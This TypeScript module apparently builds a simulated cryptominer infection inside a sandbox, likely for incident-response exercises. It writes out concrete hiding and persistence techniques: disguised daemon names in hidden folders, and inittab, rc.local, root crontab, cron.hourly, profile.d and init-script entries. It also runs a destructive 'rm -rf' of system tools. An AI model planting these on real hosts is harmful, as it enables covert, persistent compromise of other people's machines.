import { existsSync } from 'node:fs';
import { minerArguments, minerScript, starterScript } from './inside/miner-script.ts';
import { badLine, pretendWallet } from './noisy-infection.ts';
import { POOL } from './places.ts';
import type { Random } from './random.ts';
import type { Part } from './scene.ts';
import type { Stage } from './stage.ts';

export type BareNames = ReturnType<typeof bareNames>;

/** Names as on an appliance or a small container host, where nobody looks. */
export function bareNames(random: Random) {
  const folder = random.pick(['/usr/local/lib/.mc', '/var/lib/.init', '/usr/share/.sysv']);
  return {
    folder,
    program: random.pick(['klogd', 'udhcpd', 'inetd']),
    script: 'rc.sh',
    starter: `${folder}/boot`,
    download: random.pick(['b.sh', 'mips.sh', 'sh4.sh']),
    poolAddress: POOL.address,
    poolPort: POOL.port,
    wallet: pretendWallet(random),
    /** Which start system the host has. */
    init: random.pick(['sysv', 'openrc'] as ['sysv' | 'openrc', 'sysv' | 'openrc']),
    daemon: random.pick(['hwclockd', 'mountfix', 'netwait']),
    hourly: random.pick(['logclean', 'tmpwatch', 'updatedb2']),
    profile: random.pick(['/etc/profile.d/term.sh', '/etc/profile.d/color.sh', '/etc/profile.d/zz.sh']),
  };
}

const SYSTEMD = ['systemctl', 'systemd-run', 'journalctl', 'loginctl', 'systemd-analyze'].flatMap((name) => [
  `/usr/bin/${name}`,
  `/bin/${name}`,
]);

/** Takes systemd, nft and ss out of the sandbox, as on a host that never had them. */
export function withoutSystemd(mode: Stage['mode']): { parts: Part[]; notes: string[] } {
  const hasIptables = ['/usr/sbin/iptables', '/sbin/iptables'].some((path) => existsSync(path));
  const gone = [
    ...SYSTEMD,
    ...['/usr/bin/ss', '/bin/ss', '/usr/sbin/ss', '/usr/bin/lsof'],
    ...(hasIptables ? ['/usr/sbin/nft', '/sbin/nft'] : []),
    '/etc/systemd',
    // Of an ordinary user only what lies in a writable folder itself can be taken away.
    ...(mode === 'root' ? ['/usr/lib/systemd'] : []),
  ];
  return {
    parts: [
      { kind: 'command', role: 'stage', what: 'no systemd', argv: ['rm', '-rf', '--', ...gone] },
      // What only links to one of those.
      {
        kind: 'command',
        role: 'stage',
        what: 'no init',
        argv: ['rm', '-f', '--', '/usr/sbin/init', '/sbin/init'],
      },
    ],
    notes: [
      ...(hasIptables ? [] : ['there is no iptables here, so the host keeps its nft']),
      ...(mode === 'root' ? [] : ['the units of packages cannot be taken away as an ordinary user']),
    ],
  };
}

/** One miner, and seven ways back as hosts without systemd have them. */
export function bareInfection(names: BareNames, stage: Stage): Part[] {
  const { folder, starter } = names;
  const file = (what: string, path: string, text: string, mode = 0o755): Part => ({
    ...{ kind: 'file', role: 'infection', what, path, text, mode },
  });
  return [
    { kind: 'file', role: 'stage', what: 'folder', path: folder, isFolder: true, mode: 0o777 },
    { kind: 'file', role: 'stage', what: 'lock', path: `${folder}/.lock`, text: '', mode: 0o666 },
    {
      ...{ kind: 'file', role: 'infection', what: 'miner program', mode: 0o755 },
      ...{ path: `${folder}/${names.program}`, copyOf: '/bin/bash' },
    },
    file('miner script', `${folder}/${names.script}`, minerScript()),
    file('starter', starter, starterScript(names)),
    ...initEntries(names),
    badLine('/etc/inittab', 0o644, { what: 'inittab line', text: `zz:2345:respawn:${starter} inittab` }),
    badLine('/etc/rc.local', 0o755, { what: 'rc.local line', text: `${starter} rc.local >/dev/null 2>&1 &` }),
    badLine(`${stage.crontabs}/root`, 0o600, {
      what: 'crontab line of root',
      text: `* * * * * ${starter} crontab >/dev/null 2>&1`,
      owner: { uid: 0, gid: stage.crontabGid },
    }),
    file(
      'hourly script',
      `/etc/cron.hourly/${names.hourly}`,
      `#!/bin/sh\n${starter} hourly >/dev/null 2>&1 &\n`,
    ),
    file('start of every login', names.profile, `(${starter} profile >/dev/null 2>&1 &)\n`, 0o644),
    {
      ...{ kind: 'process', role: 'infection', what: 'miner', workingFolder: '/', niceness: 19 },
      ...{ connectsTo: `${POOL.address}:${POOL.port}`, environment: { STARTED_BY: 'intrusion' } },
      file: '/bin/sh',
      args: [
        ...['-c', 'exec 9>> "$1" && flock -n 9 && shift && exec "$@"', 'sh', `${folder}/.lock`],
        ...[`${folder}/${names.program}`, ...minerArguments(names)],
      ],
    },
  ];
}

/** insserv's header and a link of a runlevel, or OpenRC's words (openrc-run(8)) and a link of its. */
function initEntries({ init, daemon, starter }: BareNames): Part[] {
  const path = `/etc/init.d/${daemon}`;
  const link = init === 'sysv' ? `/etc/rc2.d/S99${daemon}` : `/etc/runlevels/default/${daemon}`;
  return [
    {
      ...{ kind: 'file', role: 'infection', what: 'init script', path, mode: 0o755 },
      text: init === 'sysv' ? sysvScript(daemon, `${starter} init`) : openrcScript(daemon, starter, 'init'),
    },
    { kind: 'link', role: 'infection', what: 'init script enabled', path: link, target: path },
  ];
}

export function sysvScript(name: string, command: string): string {
  return `#!/bin/sh
### BEGIN INIT INFO
# Provides:          ${name}
# Required-Start:    $network
# Required-Stop:
# Default-Start:     2 3 4 5
# Default-Stop:
# Short-Description: ${name}
### END INIT INFO
case "$1" in
  start) ${command} >/dev/null 2>&1 & ;;
  stop) : ;;
esac
`;
}

export function openrcScript(name: string, command: string, argument: string): string {
  return `#!/sbin/openrc-run
name="${name}"
command="${command}"
command_args="${argument}"
command_background=true
pidfile="/run/${name}.pid"

depend() {
  need net
}
`;
}
